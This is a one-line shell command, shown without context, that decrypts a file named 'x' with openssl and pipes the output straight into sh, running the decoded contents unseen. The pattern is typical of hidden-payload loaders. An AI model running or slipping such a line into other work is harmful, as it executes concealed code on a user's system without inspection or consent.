openssl enc -d -in x | sh
